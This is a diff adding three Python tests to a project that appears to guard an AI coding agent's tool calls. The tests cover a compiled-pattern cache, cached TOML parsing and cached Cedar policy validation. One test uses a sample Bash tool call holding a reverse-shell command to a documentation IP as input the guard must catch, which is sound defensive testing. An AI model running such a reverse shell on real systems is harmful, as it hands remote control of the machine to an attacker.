@@ -4,6 +4,7 @@ same compile, a broken file must be a miss, and only an opted-in process uses it
 from __future__ import annotations
 
 import dataclasses
+import json
 import os
 import re
 import subprocess
@@ -240,3 +241,113 @@ def test_a_file_of_another_user_is_never_run(tmp_path: Path) -> None:
     # System mode: the daemon (service user) must not run what a developer's process wrote.
     os.chown(_plant(tmp_path), 65534, 65534)
     assert _run(_fresh(tmp_path)) == "honest"
+
+
+def test_a_second_start_compiles_nothing_new_whatever_the_hash_seed(home: Path) -> None:
+    """The fallback's start builds the same pattern texts in every process: one whose text
+    followed a set's order (string hashing, a new seed per process) missed the cache at every
+    start, was compiled again, and grew the file by its variants (issue #17)."""
+    script = textwrap.dedent(
+        """
+        import sys
+        from bastion.hook import recover, compile_cache
+        recover._prepare_for_engine(sys.argv[1])
+        from bastion.engine_fallback import decide_fast
+        payload = sys.argv[2].encode()
+        assert decide_fast(sys.argv[1], "claude-code", payload) is not None
+        cache = compile_cache._installed
+        print(cache.added, len(cache.patterns))
+        """
+    )
+    shell = json.dumps(
+        {
+            "session_id": "cc-seed",
+            "transcript_path": "/t.jsonl",
+            "cwd": "/tmp",
+            "hook_event_name": "PreToolUse",
+            "tool_name": "Bash",
+            "tool_input": {"command": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
+            "tool_use_id": "toolu_seed",
+        }
+    )
+    base = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
+    counts = []
+    for seed in ("1", "2", "3"):
+        out = subprocess.run(
+            [sys.executable, "-c", script, str(home), shell],
+            capture_output=True,
+            text=True,
+            env={**base, "PYTHONHASHSEED": seed},
+            check=True,
+            timeout=120,
+        )
+        added, patterns = (int(n) for n in out.stdout.split())
+        counts.append((added, patterns))
+    assert counts[0][0] > 0  # the first start filled the cache
+    assert [c[0] for c in counts[1:]] == [0, 0], counts
+    assert counts[1][1] == counts[2][1] == counts[0][1]
+
+
+def test_a_cached_toml_parse_is_the_same_document_and_a_fresh_copy(tmp_path: Path) -> None:
+    import tomllib
+
+    text = '[rule]\nid = "x"\nkeywords = ["a", "b"]\nentropy = 3.5\n[[rule.allow]]\npath = "p"\n'
+    first = CompileCache(cache_path(str(tmp_path)), _python_compile, tomllib.loads)
+    parsed = first.loads_toml(text)
+    first.save()
+    second = CompileCache(cache_path(str(tmp_path)), _python_compile, tomllib.loads)
+    one = second.loads_toml(text)
+    assert second.hits == 1 and second.added == 0
+    assert one == parsed == tomllib.loads(text)
+    one["rule"]["keywords"].append("mutated")
+    assert second.loads_toml(text) == tomllib.loads(text)  # callers may change what they get
+    dated = "when = 2026-12-06T11:40:00Z\n"
+    assert second.loads_toml(dated) == tomllib.loads(dated)  # marshal cannot hold dates
+    assert dated not in second.toml
+    assert second.loads_toml(text, parse_float=str) == tomllib.loads(text, parse_float=str)
+
+
+def test_cedar_text_answers_are_cached_equal_and_handed_back(tmp_path: Path) -> None:
+    """Cedar's JSON of a policy set and its validation come from the cache on the second
+    start, equal to Cedar's own; a text Cedar refuses still raises; `save_installed` hands
+    the functions back."""
+    script = textwrap.dedent(
+        """
+        import json, sys
+        from bastion.hook import compile_cache
+        cache = compile_cache.install(sys.argv[1])
+        import cedarpy
+        from cedarpy import _internal
+        from bastion.policy.engine import PolicyEngine, pack_files, schema_text
+        engine = PolicyEngine(pack_files("default"))
+        text = "\\n".join(s.text for s in engine.statements)
+        original = _internal.policies_to_json_str.__wrapped__
+        assert cedarpy.policies_to_json_str(text) == original(text)
+        check = _internal.validate_policies.__wrapped__
+        assert _internal.validate_policies(text, schema_text()) == check(text, schema_text())
+        try:
+            cedarpy.policies_to_json_str("permit(principal,")
+        except ValueError:
+            pass
+        else:
+            raise AssertionError("a broken policy parsed")
+        hits = cache.hits
+        compile_cache.save_installed()
+        assert not hasattr(_internal.validate_policies, "__wrapped__")
+        print(hits, engine.hash)
+        """
+    )
+    env = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
+    runs = [
+        subprocess.run(
+            [sys.executable, "-c", script, str(tmp_path)],
+            capture_output=True,
+            text=True,
+            env=env,
+            check=True,
+            timeout=120,
+        ).stdout.split()
+        for _ in range(2)
+    ]
+    assert runs[0][1] == runs[1][1]  # the same policy set, hashed alike
+    assert int(runs[1][0]) > int(runs[0][0])
